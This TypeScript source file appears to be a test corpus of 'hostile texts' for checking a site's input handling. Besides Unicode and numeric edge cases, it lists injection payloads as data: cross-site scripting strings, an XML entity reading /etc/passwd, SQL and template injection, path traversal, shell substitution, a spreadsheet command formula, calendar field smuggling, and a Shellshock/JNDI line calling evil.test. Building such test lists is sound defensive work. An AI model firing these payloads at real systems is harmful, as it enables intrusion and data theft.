/** Texts that break programs. Written for this site; a new one takes one line. */
export const hostileTexts: string[] = [
	// Emoji, combining marks, other scripts and signs that look like others or like nothing.
	...["👨‍👩‍👧‍👦 fête", "🇸🇳 👋🏿", "1️⃣ #️⃣", "\u{1fae8}", `e${"\u0301\u0302".repeat(50)}`, "Z̮̞̠͙͔ͅḀ̗̞͈̻̗Ḷ͙͎̯̹̞͓G̻O̭̗̮", "\u0301seul"],
	...[
		"Fe\u0302te de Noe\u0308l",
		"аdmin ｆｅｔｅ ﬁn",
		"a\u00a0b\u202fc\u2003d\u3000e",
		"a\u200bb\u200cc\u200dd\ufeffe",
	],
	...[
		"田中さんにあげて下さい 𠜎𠜱",
		"नमस्ते ไทย ሰላም ߒߞߏ",
		"İstanbul ıssız ẞ ß ǅ",
		"بְּرֵאשִׁית العيد ﷺ a\u200eb\u200fc\u061cd",
	],
	...[
		"a\u00adb\u2060c\u180ed\u115fe\u3164f",
		"a\ufffdb\ufffec\uffff",
		"\ue000\uf8ff\u{10ffff}\u{e0041}",
		"œ".repeat(75),
	],
	// Line breaks, controls and marks of direction.
	...["a\r\nb\rc", "a\u2028b\u2029c", "a\tb", "\\n\\r\\t\\0\\u0000", "a\0b", "a\x1b[31mb", "a\x7fb", "a\x85b"],
	...["photo\u202egnp.exe", "a\u2066b", "a\u2069b"],
	// Numbers and words of a language.
	...["NaN", "1e400", "-0", "0x10", "9007199254740993", "٠١٢٣ １２３", "1 000,00 €", "50 %"],
	...["null", "undefined", "__proto__", "constructor", "toString", "then", "[object Object]", "new", "admin"],
	// Markup, templates, queries, addresses, paths, commands and formulas.
	...[
		"<script>alert(1)</script>",
		"<img src=x onerror=alert(1)>",
		"<base href=//evil.test/>",
		"<plaintext>",
		"<!--<script>",
	],
	...[
		`"><img src=x onerror=alert(1)>`,
		`' onmouseover='alert(1)`,
		"</script><script>alert(1)</script><!--",
		"'",
		'"',
		"`",
	],
	...[
		"]]> <![CDATA[ --> &lt;b&gt; &amp;amp; &#x0;",
		"<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
	],
	...["{{7*7}} \u0024{7*7} <%= 7*7 %> #{7*7}", "%s%n%x %d {0} %(a)s", '{"a":1,"__proto__":{"x":1}}'],
	...["' OR 1=1--", `Robert"; drop table events;--`, "?, ?, $1, :a, @b", "100 % _a_ *? [^a] \\", "title:a AND (b"],
	...["javascript:alert(1)", "data:text/html;base64,PHNjcmlwdD4=", "//evil.test", "https://user:pass@evil.test/#?"],
	...[
		"../../../etc/passwd",
		"C:\\boot.ini",
		"%2e%2e%2f",
		"CON",
		".",
		"$(touch a) `touch a`",
		"--help",
		"=cmd|' /C calc'!A0",
	],
	...["a\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:faux", "() { :; }; echo \u0024{jndi:ldap://evil.test/a}"],
];
